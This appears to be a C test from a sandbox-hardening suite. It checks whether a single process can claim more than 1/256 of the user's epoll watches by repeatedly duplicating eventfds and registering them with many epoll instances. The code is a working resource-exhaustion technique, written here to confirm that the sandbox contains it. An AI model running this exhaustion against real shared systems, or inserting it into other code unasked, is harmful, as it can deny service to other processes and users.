#include "attack.h"
#include <sys/epoll.h>
#include <sys/eventfd.h>

/* Adds more than 1/256 of the user's epoll watches. The 256 processes of a sandbox could then use all of them, and Node
 * could not start. A watch belongs to a file and a descriptor number, and remains when the number is closed. */
static int attack(void) {
    enum { FILES = 28 };
    long most = 0, made = 0, processes = 256;
    FILE *file = fopen("/proc/sys/fs/epoll/max_user_watches", "r");
    if (!file || fscanf(file, "%ld", &most) != 1) return untried("no such limit");
    fclose(file);
    int watched[FILES], watchers[FILES];
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    for (int i = 0; i < FILES; i++)
        if ((watched[i] = eventfd(0, 0)) < 0 || (watchers[i] = epoll_create1(0)) < 0) return held();
    for (int number = watchers[FILES - 1] + 1; number < (int)limit.rlim_cur; number++) {
        for (int i = 0; i < FILES && made * processes <= most; i++) {
            if (dup2(watched[i], number) < 0) return held();
            for (int j = 0; j < FILES; j++) {
                struct epoll_event event = {.events = EPOLLIN};
                if (epoll_ctl(watchers[j], EPOLL_CTL_ADD, number, &event)) goto done;
                made++;
            }
        }
        close(number);
    }
done:
    return outcome(made * processes > most, "its share of the watches of the user is more than all");
}
